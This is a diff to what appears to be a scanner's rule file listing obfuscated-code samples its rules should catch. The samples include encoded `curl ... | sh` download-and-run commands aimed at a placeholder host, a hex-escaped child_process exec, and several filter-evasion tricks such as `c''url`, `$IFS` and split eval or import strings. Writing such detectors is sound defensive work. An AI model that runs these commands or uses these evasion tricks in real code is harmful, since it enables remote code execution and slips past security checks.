@@ -81,7 +81,7 @@ export const OBFUSCATION_RULES: Rule[] = [
     hits: [
       py(`P = "${Buffer.from('import os; os.system("curl https://example.invalid/x | sh")').toString('base64')}"`),
       js(
-        `const p = "${[...'require("child_process").exec("id")'].map(c => `\\x${c.charCodeAt(0).toString(16)}`).join('')}";`,
+        `const p = "${Array.from('require("child_process").exec("id")', c => `\\x${c.charCodeAt(0).toString(16)}`).join('')}";`,
       ),
       sh(`P=${Buffer.from('#!/bin/sh\ncurl -s https://example.invalid/x | bash\n').toString('hex')}`),
     ],
@@ -145,7 +145,7 @@ export const OBFUSCATION_RULES: Rule[] = [
     },
     hits: [
       sh("c''url -s https://example.invalid"),
-      sh('cat${IFS}-n'),
+      sh('cat$IFS-n'),
       py('__import__("o" + "s").system(x)'),
       py('getattr(__builtins__, name)(x)'),
       js('globalThis["ev" + "al"](x)'),
